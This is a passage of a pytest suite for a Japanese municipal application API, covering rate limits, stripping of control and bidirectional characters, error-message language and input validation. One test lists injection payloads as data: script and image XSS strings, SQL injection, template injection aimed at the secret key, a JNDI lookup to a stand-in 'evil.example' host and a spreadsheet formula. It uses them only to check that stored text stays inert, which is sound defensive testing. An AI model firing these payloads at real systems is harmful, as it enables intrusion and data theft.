        assert client.get(url, HTTP_X_ACCESS_CODE=guess).status_code == 404

    assert_problem(client.get(url, HTTP_X_ACCESS_CODE=created["access_code"]), 429, "rate-limited")


def test_submit_and_lookup_have_separate_rate_limits(client, aoba, settings, rate_clock):
    settings.MADOGUCHI_SUBMIT_RATE = "1/m"
    created = post_with_id(client, juminhyo_answers()).json()
    assert post_with_id(client, juminhyo_answers()).status_code == 429

    response = client.get(status_url(created["receipt_number"]), HTTP_X_ACCESS_CODE=created["access_code"])

    assert response.status_code == 200


# --- hostile and confused text --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("changes", "path", "expected"),
    [
        pytest.param({"notes": "山田\x00太郎"}, ("notes",), "山田太郎", id="nul-in-text"),
        pytest.param({"notes": "警告\x07\x1b[31m赤\x1b[0m"}, ("notes",), "警告[31m赤[0m", id="bell-and-escape"),
        pytest.param({"notes": "見えない\u200b\u200d\ufeff文字"}, ("notes",), "見えない文字", id="zero-width"),
        pytest.param(
            {"notes": "逆\u202eさま\u202c\u2067文字\u2069\u200f"}, ("notes",), "逆さま文字", id="bidi-controls-issue-12"
        ),
        pytest.param(
            {"requester_name": {"family": "\u202e田山", "family_kana": "ヤマダ"}},
            ("requester_name", "family"),
            "田山",
            id="bidi-override-in-name-issue-12",
        ),
        pytest.param({"notes": "\x85次の行"}, ("notes",), "次の行", id="c1-control"),
        pytest.param(
            {"requester_name": {"family": "山\x00田", "family_kana": "ヤマダ"}},
            ("requester_name", "family"),
            "山田",
            id="nul-in-name",
        ),
        pytest.param(
            {"target_address": {**juminhyo_answers()["target_address"], "building": "ハイツ\x00\x08101"}},
            ("target_address", "building"),
            "ハイツ101",
            id="control-in-address",
        ),
        pytest.param({"phone": "029\x00200\x001234"}, ("phone",), "0292001234", id="nul-in-phone"),
        pytest.param({"email": "hanako\x00@example.jp"}, ("email",), "hanako@example.jp", id="nul-in-email"),
    ],
)
def test_control_characters_in_text_are_removed(client, aoba, changes, path, expected):
    response = post_with_id(client, juminhyo_answers(**changes))

    assert response.status_code == 201, response.content[:500]
    value = stored_case(aoba, response.json()["receipt_number"]).answers
    for key in path:
        value = value[key]
    assert value == expected


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert('x')</script>",
        "' OR 1=1 --",
        "Robert'); DROP TABLE cases_case;--",
        '"><img src=x onerror=alert(1)>',
        "{{ settings.SECRET_KEY }} {% debug %}",
        "${jndi:ldap://evil.example/a}",
        "%s%s%s%n",
        '=HYPERLINK("https://evil.example")',
    ],
)
def test_markup_and_sql_in_text_are_stored_verbatim(client, aoba, text):
    response = post_with_id(client, juminhyo_answers(notes=text))

    assert response.status_code == 201
    assert response["Content-Type"].startswith("application/json")
    assert stored_case(aoba, response.json()["receipt_number"]).answers["notes"] == text
    assert Case.objects.for_municipality(aoba).count() == 1


def test_markup_in_an_unknown_member_name_is_echoed_only_as_json(client, unchanged):
    response = post_raw(client, json.dumps({"answers": {}, "<script>alert(1)</script>": 1}))

    body = refused(response, 400, "malformed-request", unchanged)
    assert body["detail"] == "Unknown member(s): <script>alert(1)</script>."
    assert response["X-Content-Type-Options"] == "nosniff"


# --- language of messages -------------------------------------------------------------------------


@pytest.mark.parametrize("accept_language", ["en", "en-US,en;q=0.9,ja;q=0.5", "EN-gb"])
def test_messages_are_in_english_when_accept_language_asks(client, unchanged, accept_language):
    response = post_with_id(client, juminhyo_answers(phone=""), HTTP_ACCEPT_LANGUAGE=accept_language)

    body = json.loads(response.content)
    assert response["Content-Language"] == "en"
    assert body["title"] == "The application has invalid answers."
    assert body["errors"] == [{"field": "phone", "code": "required", "message": "Enter daytime phone number."}]
    unchanged()


@pytest.mark.parametrize("accept_language", [None, "fr", "ja"])
def test_messages_are_in_japanese_otherwise(client, unchanged, accept_language):
    extra = {"HTTP_ACCEPT_LANGUAGE": accept_language} if accept_language else {}

    response = post_with_id(client, juminhyo_answers(phone=""), **extra)

    assert response["Content-Language"] == "ja"
    assert invalid(response, unchanged) == [("phone", "required")]


def test_every_error_of_a_submission_is_reported_at_once(client, unchanged):
    response = post_json(
        client, juminhyo_answers(phone="12345", email="a@@b", copies=99, target_birth_date="2026-13-01", bogus=1)
    )

    assert invalid(response, unchanged) == [
        ("target_birth_date", "invalid_date"),
        ("copies", "too_large"),
        ("phone", "invalid_phone"),
        ("email", "invalid_email"),
        ("bogus", "unknown_field"),
    ]


# --- found by the API tests in the engine and services (issue #2) ---------------------------------


@pytest.mark.parametrize("value", [1.5, [1.5], [["委任状.pdf"]]], ids=["float", "list-of-float", "nested-list"])
def test_json_number_or_nested_list_for_a_file_field_is_wrong_type(client, unchanged, value):
    response = post_json(client, agent_answers(power_of_attorney=value))

    assert invalid(response, unchanged) == [("power_of_attorney", "wrong_type")]


def test_file_part_for_a_non_file_field_is_422(client, unchanged):
    response = post_multipart(client, juminhyo_answers(), {"phone": pdf_upload("phone.pdf")})

    assert response.status_code == 422
    unchanged()


@pytest.mark.parametrize("text", ["\u200b\u200b", "\x00", "\ufeff", "\x1b"], ids=["zwsp", "nul", "bom", "escape"])
def test_required_text_of_invisible_characters_only_is_required(client, unchanged, text):
    response = post_with_id(client, juminhyo_answers(purpose="other", purpose_other=text))

    assert invalid(response, unchanged) == [("purpose_other", "required")]


def test_case_submit_refuses_text_with_an_unpaired_surrogate(aoba, version_of, now):
    with pytest.raises(AnswersInvalid) as caught:
        case_submit(
            municipality=aoba,
            procedure_version=version_of(aoba, "juminhyo-copy"),
            answers=juminhyo_answers(notes="\ud800"),
            idempotency_key="surrogate",
            now=now,
        )

    assert [(e.path, e.code) for e in caught.value.errors] == [("notes", "invalid_text")]


def test_clean_answers_refuses_a_deeply_nested_answer(aoba, version_of):
    nested: list = []
    for _ in range(5000):
        nested = [nested, "x"]
    definition = version_of(aoba, "juminhyo-copy").definition

    with pytest.raises(AnswersInvalid) as caught:
        clean_answers(definition, juminhyo_answers(notes=nested), today=timezone.localdate())

    assert [(e.path, e.code) for e in caught.value.errors] == [("notes", "wrong_type")]
